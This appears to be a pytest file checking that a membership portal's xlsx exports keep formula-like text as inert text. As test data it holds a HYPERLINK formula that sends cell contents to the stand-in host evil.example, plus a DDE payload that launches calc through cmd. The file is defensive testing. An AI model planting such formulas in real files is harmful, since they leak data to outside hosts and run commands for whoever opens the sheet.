"""Every .xlsx the portal writes keeps a formula-like text as text: the members', people and import exports."""

import io

import openpyxl
import pytest

from common.spreadsheets import FORMULA_STARTS, xlsx_bytes
from organizations.services import member_import_preview
from tests.factories import MembershipFactory

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def _cells(content: bytes) -> list[openpyxl.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [c for row in sheet.iter_rows(min_row=2) for c in row]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_starting_like_a_formula_comes_out_as_text(start):
    value = f"{start}1+cmd|' /C calc'!A0"
    [written] = _cells(xlsx_bytes("Danh sách", ["Tên"], [[value]]))
    assert written.data_type == "s" and written.value == value
    assert written.quotePrefix


def test_numbers_stay_numbers_negative_ones_too():
    cells = _cells(xlsx_bytes("Danh sách", ["a", "b", "c", "d"], [[-5, -2.5, 0, "Nguyễn Văn An"]]))
    assert [(c.value, c.data_type) for c in cells] == [(-5, "n"), (-2.5, "n"), (0, "n"), ("Nguyễn Văn An", "s")]
    assert not any(c.quotePrefix for c in cells)


def _export(client, url: str) -> list[openpyxl.cell.Cell]:
    response = client.get(url + ("&" if "?" in url else "?") + "export=xlsx")
    assert response.status_code == 200
    return _cells(response.content)


@pytest.mark.django_db
def test_a_member_named_like_a_formula_is_exported_as_text(client, province, staff_a):
    MembershipFactory(organization=province.cell_1, person__full_name=HOSTILE)
    csv = f'Họ và tên,Giới tính,Ngày vào Đảng\n"{HOSTILE.replace(chr(34), chr(34) * 2)}",Nam,01/01/2010\n'
    batch, _rows = member_import_preview(organization=province.cell_1, file_name="a.csv", content=csv.encode(),
                                         actor=staff_a)
    client.force_login(staff_a)
    for url in (f"/org/{province.sub_a.pk}/members/", "/people/", f"/imports/{batch.pk}/"):
        cells = [c for c in _export(client, url) if c.value == HOSTILE]
        assert cells, url
        assert all(c.data_type == "s" for c in cells), url
